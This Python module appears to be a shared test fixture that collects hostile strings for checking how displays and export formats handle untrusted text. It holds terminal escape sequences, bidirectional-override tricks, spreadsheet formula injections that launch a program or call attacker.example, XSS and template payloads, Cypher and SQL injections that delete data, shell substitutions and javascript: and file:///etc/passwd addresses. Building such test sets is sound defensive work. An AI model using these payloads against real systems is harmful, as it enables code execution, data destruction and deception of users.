"""The hostile set: texts that act where they are not taken for texts. Tests of all screens and formats share it."""
import re

# What each would do where it is not taken for a text.
ATTACKS = {
    "changes the colour": "\x1b[31mAlpha\x1b[0m",
    "names the window": "\x1b]0;Bravo\x07",
    "writes to the clipboard": "\x1b]52;c;Q2hhcmxpZQ==\x07Charlie",
    "hides a link": "\x1b]8;;https://attacker.example/\x1b\\Delta\x1b]8;;\x1b\\",
    "asks the terminal": "\x1bP$q\"p\x1b\\Echo\x1b[6n",
    "goes up and erases": "\x1b[2A\x1b[2KFoxtrot",
    "is a sequence of one byte": "\u009b31mGolf\u009d0;x\u009c",
    "overwrites its line": "Hotel\rIndia",
    "takes back what it said": "Juliett\b\b\b\bKilo\x7f",
    "rings": "Lima\a",
    "overrides the direction": "Mike \u202etxt.exe\u202c",
    "isolates": "\u2066November\u2069 \u2067Oscar\u2069",
    "marks the direction": "\u200fPapa\u200e\u061c",
    "ends its line": "Quebec\nRomeo\r\nSierra\u2028Tango\u2029Uniform",
    "starts a program": "=cmd|' /C calc'!A0",
    "fetches an address": "+HYPERLINK(\"https://attacker.example/\"&A1;\"Victor\")",
    "computes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "is a negative formula": "-2+3+cmd|' /C calc'!A0",
    "is a formula behind a tab": "\t=1+1",
    "is a formula behind a line end": "\r=1+1",
    "ends the script": "</script><script>alert(1)</script>",
    "loads a picture": "<img src=x onerror=alert(2)>",
    "ends an attribute": "\"'><svg/onload=alert(3)>",
    "ends a section": "]]><script>alert(4)</script><![CDATA[",
    "ends a comment": "--><script>alert(5)</script><!--",
    "is an entity": "&lt;script&gt;alert(6)&#60;/script&#62;&xxe;",
    "is a template": "${alert(7)} `alert(8)` {{7*7}} <%= 7 %>",
    "ends a Cypher text": "\\' \"}) MATCH (n) DETACH DELETE n; //",
    "ends a Cypher name": "Whiskey`) DETACH DELETE n //",
    "ends a label": "\"]; evil [label=<<b>X-ray</b>>]; \\",
    "ends a text of RDF": "\" . <urn:evil> <urn:evil> <urn:evil> . \\u0022 \\",
    "ends a text of SQL": "'); DROP TABLE claims; --",
    "runs in a shell": "$(touch evil) `touch evil`; touch evil",
    "is Markdown": "[Yankee](javascript:alert(9)) ![](https://attacker.example/x.png)",
    "is an address": "javascript:alert(10)",
}
ADDRESSES = ["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "https://a.example/\"onmouseover=\"alert(3)",
             "https://a.example/>\n<urn:evil> <urn:evil> <urn:evil>", "file:///etc/passwd", "\x1b]0;x\x07"]
TURNS = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
ACTS = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f{TURNS}]")
